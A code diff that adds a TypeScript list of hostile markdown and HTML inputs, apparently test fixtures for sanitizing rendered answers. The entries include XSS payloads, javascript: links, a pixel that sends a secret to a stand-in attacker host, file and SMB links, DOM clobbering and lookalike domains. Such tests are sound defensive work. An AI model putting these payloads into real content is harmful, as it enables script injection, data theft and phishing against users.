@@ -1,0 +1,21 @@
+/** Answers that try to fetch, to navigate, to run, or to look like something they are not. */
+export const hostile: readonly string[] = [
+  '<img src=https://evil.example/a.png onerror=alert(1)>',
+  'text <svg onload="alert(1)"><a href="javascript:x">y</a></svg> text',
+  '<style>@import url(https://evil.example/x.css)</style>\n\n<script>alert(1)</script>',
+  '<iframe src="https://evil.example"></iframe>\n<form action="https://evil.example"><input></form>',
+  '<a id="root" name="labels" href="//evil.example">clobber</a>',
+  '![pixel](https://evil.example/p.gif?q=secret) ![](data:image/svg+xml;base64,PHN2Zz4=) ![r][ref]',
+  '[ref]: https://evil.example/ref.png',
+  '[click](javascript:alert(1)) [click](JaVaScRiPt&colon;alert(1)) [click](java\tscript:alert(1))',
+  '[d](data:text/html,x) [f](file:///etc/passwd) [s](smb://host/share) [m](ms-msdt:/id) [v](vbscript:x)',
+  '[u](\\\\host\\share) [p](//evil.example) [r](/settings) [h](#root) [b](blob:https://x.example/1)',
+  '<javascript:alert(1)> <https://ok.example/" onmouseover="alert(1)> www.evil.example evil@evil.example',
+  '[a](https://good.example@evil.example/) [b](https://аррӏе.com) [c](https://x.example/\u202Egpj.exe)',
+  'Note[^x]\n\n[^x]: <img src=x onerror=y> ![n](https://evil.example/n.png)',
+  '| <img src=x> | ![t](https://evil.example/t.png) |\n|---|---|\n| [j](javascript:1) | <b style="position:fixed">x</b> |',
+  '```js" onclick="alert(1)\nhttps://evil.example <script>\n```',
+  '- [x] <input type="checkbox" onclick="x()">',
+  '$$\\href{javascript:alert(1)}{x}$$ $\\includegraphics{https://evil.example/m.png}$',
+  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;',
+]
